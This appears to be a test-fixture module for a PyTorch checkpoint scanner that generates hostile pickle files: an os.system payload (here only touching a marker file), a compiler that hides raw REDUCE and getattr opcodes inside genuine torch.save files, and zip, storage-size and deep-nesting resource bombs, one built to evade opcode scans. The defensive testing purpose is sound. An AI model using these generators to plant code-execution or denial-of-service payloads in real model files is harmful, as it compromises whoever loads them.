"""Hostile pickles for the tests: each only creates a marker file, and each is proven live by a control.

The resource bombs at the end (:func:`zip_bomb`, :func:`legacy_bomb`, :func:`deep`) are files a model hub
receives: tensor data that inflates to gigabytes, storages declared far beyond the bytes present, data
nested a million levels deep.

A payload is an expression tree (:class:`G` a global, :class:`Call` a REDUCE, :class:`Attr` a
``getattr``, :class:`StackGlobal`, :class:`Build`, :class:`NewObj`, :class:`Persistent`) written as raw
pickle opcodes *inside* a real ``torch.save`` file: :func:`save` runs ``torch.save`` with a pickler that
emits the opcodes wherever an expression sits in the saved object, so payloads can hide in a real
state_dict, in the zip or the legacy format, at protocol 2 (torch's default) or 4.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import types
import zipfile
import zlib
from pathlib import Path
from typing import Any

import torch


class Touch:
    """The classic payload: pickled by reference to ``os.system`` (``posix.system``), it runs ``touch MARKER``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


class Expr:
    """A node of a payload expression."""


class G(Expr):
    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class Call(Expr):
    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn, self.args = fn, args


def Attr(obj: Any, name: str) -> Call:  # noqa: N802  (reads like the getattr it is)
    return Call(G("builtins", "getattr"), obj, name)


class StackGlobal(Expr):
    """Protocol 4's STACK_GLOBAL: module and name come from the stack (so they can be computed)."""

    def __init__(self, module: Any, name: Any) -> None:
        self.module, self.name = module, name


class Build(Expr):
    def __init__(self, obj: Any, state: Any) -> None:
        self.obj, self.state = obj, state


class NewObj(Expr):
    def __init__(self, cls: Any, args: tuple = ()) -> None:
        self.cls, self.args = cls, args


class Persistent(Expr):
    def __init__(self, pid: Any) -> None:
        self.pid = pid


class Raw(Expr):
    """Opcodes written as they are (they must push exactly one value): nestings too deep to build in Python."""

    def __init__(self, opcodes: bytes) -> None:
        self.opcodes = opcodes


def emit(value: Any) -> bytes:
    """Opcodes that push ``value`` (an expression or plain data) on the unpickler's stack."""
    if isinstance(value, G):
        return b"c" + value.module.encode() + b"\n" + value.name.encode() + b"\n"
    if isinstance(value, Call):
        return emit(value.fn) + emit(tuple(value.args)) + b"R"
    if isinstance(value, StackGlobal):
        return emit(value.module) + emit(value.name) + b"\x93"
    if isinstance(value, Build):
        return emit(value.obj) + emit(value.state) + b"b"
    if isinstance(value, NewObj):
        return emit(value.cls) + emit(tuple(value.args)) + b"\x81"
    if isinstance(value, Persistent):
        return emit(value.pid) + b"Q"
    if isinstance(value, Raw):
        return value.opcodes
    if value is None:
        return b"N"
    if value is True or value is False:
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        if -(2**31) <= value < 2**31:
            return b"J" + struct.pack("<i", value)
        data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(data)]) + data
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        data = value.encode("utf-8", "surrogatepass")
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(emit(v) for v in value) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(emit(v) for v in value) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(emit(k) + emit(v) for k, v in value.items()) + b"u"
    raise TypeError(f"cannot emit {type(value).__name__}")


def plain_pickle(value: Any, protocol: int = 2) -> bytes:
    """A stand-alone pickle of an expression (for ``pickle.loads`` payloads)."""
    return b"\x80" + bytes([protocol]) + emit(value) + b"."


class _RawPickler(pickle._Pickler):  # the pure-Python pickler: its ``save`` can be extended
    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Expr):
            self.write(emit(obj))
            return
        super().save(obj, save_persistent_id)


#: ``torch.save(..., pickle_module=RAW)`` writes expressions as raw opcodes.
RAW = types.SimpleNamespace(Pickler=_RawPickler, dump=pickle._dump, dumps=pickle._dumps, __name__="pickle_payloads.RAW")


def save(obj: Any, path: Path, *, legacy: bool = False, protocol: int = 2) -> Path:
    """``torch.save`` ``obj`` (which may hold expressions) to ``path`` in the zip or the legacy format."""
    torch.save(obj, path, pickle_module=RAW, pickle_protocol=protocol, _use_new_zipfile_serialization=not legacy)
    return path


def to_bytes(obj: Any, *, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, pickle_module=RAW, pickle_protocol=protocol)
    return buffer.getvalue()


# -- resource bombs ----------------------------------------------------------------------------------------

#: The legacy format's first pickle (torch.serialization's magic number) and its protocol version.
LEGACY_MAGIC, LEGACY_PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
_SYS_INFO = {"protocol_version": LEGACY_PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
_CHUNK = 2**24  # a bomb inflates by chunks of 16 MiB of zeros


def tensor(key: str, numel: int, storage: str = "FloatStorage", *, legacy: bool = False) -> Call:
    """An expression torch reads back as a 1-D tensor of ``numel`` elements held in storage ``key``."""
    pid = ("storage", G("torch", storage), key, "cpu", numel) + ((None,) if legacy else ())
    return Call(G("torch._utils", "_rebuild_tensor_v2"), Persistent(pid), 0, (numel,), (1,), False, Call(G("collections", "OrderedDict")))


def _zero_block() -> bytes:
    """16 MiB of zeros as one self-contained DEFLATE block (a full flush resets the window)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(bytes(_CHUNK)) + co.flush(zlib.Z_FULL_FLUSH)


_ZERO_BLOCK: list[bytes] = []


def _deflated(zf: zipfile.ZipFile, name: str, head: bytes, zeros: int, crc: bool) -> None:
    """A DEFLATE record of ``head`` then ``zeros`` zero bytes (a multiple of 16 MiB), written block by block
    without compressing (or, with ``crc=False``, even reading) the gigabytes it inflates to."""
    _ZERO_BLOCK[:] = _ZERO_BLOCK or [_zero_block()]
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    blocks = [co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)] + [_ZERO_BLOCK[0]] * (zeros // _CHUNK) + [b"\x03\x00"]  # last: final, empty
    checksum = zlib.crc32(head)
    if crc:
        zero = bytes(_CHUNK)
        for _ in range(zeros // _CHUNK):
            checksum = zlib.crc32(zero, checksum)
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as out:  # zipfile's writer internals: the blocks go in as they are
        out._compressor = types.SimpleNamespace(flush=lambda: b"")
        for block in blocks:
            out._fileobj.write(block)
            out._compress_size += len(block)
        out._file_size, out._crc = len(head) + zeros // _CHUNK * _CHUNK, checksum if crc else checksum ^ 0xFFFF


def zip_bomb(path: Path, obj: Any, records: dict[str, bytes | int], *, crc: bool = True, pickle_zeros: int = 0) -> Path:
    """A zip checkpoint of the object pickle of ``obj`` and its ``records``: bytes are stored as torch.save
    stores them; an int ``n`` is a DEFLATE record of ``n`` zero bytes (a multiple of 16 MiB) that inflates
    from a thousandth of that. ``pickle_zeros``: the pickle record too is deflated, with that many zeros after
    the pickle. ``crc=False`` leaves the checksums wrong (the damage shows only once inflated)."""
    data_pkl = b"\x80\x02" + emit(obj) + b"."
    with zipfile.ZipFile(path, "w") as zf:
        if pickle_zeros:
            _deflated(zf, "archive/data.pkl", data_pkl, pickle_zeros, crc)
        else:
            zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", "little")
        for key, data in records.items():
            if isinstance(data, bytes):
                zf.writestr(f"archive/data/{key}", data)
            else:
                _deflated(zf, f"archive/data/{key}", b"", data, crc)
        zf.writestr("archive/version", "3\n")
    return path


def legacy_bomb(path: Path, obj: Any, storages: dict[str, tuple[int, bytes]]) -> Path:
    """A legacy-format file (five pickles, then each storage as its int64 element count and its bytes) of the
    object pickle of ``obj``; ``storages`` maps each key to (the count its header claims, the bytes present)."""
    parts = [
        plain_pickle(LEGACY_MAGIC),
        plain_pickle(LEGACY_PROTOCOL),
        plain_pickle(_SYS_INFO),
        plain_pickle(obj),
        plain_pickle(list(storages)),
    ]
    parts += [struct.pack("<q", count) + data for count, data in storages.values()]
    path.write_bytes(b"".join(parts))
    return path


def deep(levels: int, how: str) -> Raw:
    """A value nested ``levels`` deep, written as a hostile file would: ``list`` (one list opened inside the
    last, as Python's pickler writes ``[[[...]]]``), ``memo`` (the same, each list memoized), ``dict``,
    ``marks`` (a MARK per level), ``tuple`` (each tuple wrapping the last: hashing it recurses in C), ``adopted``
    (a flat list of lists, each appended to the one before after it was placed: nested only through the memo)."""
    if how == "list":
        return Raw(b"]" * levels + b"a" * (levels - 1))
    if how == "memo":  # memo indices far above the pickler's own
        return Raw(b"".join(b"]r" + struct.pack("<I", 2**30 + i) for i in range(levels)) + b"a" * (levels - 1))
    if how == "dict":
        return Raw(b"}K\x00" * (levels - 1) + b"}" + b"s" * (levels - 1))
    if how == "marks":
        return Raw(b"(" * levels + b"l" * levels)
    if how == "tuple":
        return Raw(b")" + b"\x85" * (levels - 1))
    if how == "adopted":  # each list filled after it went into the last: no scan of the opcodes sees the depth
        memo = [struct.pack("<I", 2**30 + i) for i in range(levels)]
        return Raw(b"]]r" + memo[0] + b"a" + b"".join(b"j" + memo[i] + b"]r" + memo[i + 1] + b"aa" for i in range(levels - 1)))
    raise ValueError(how)
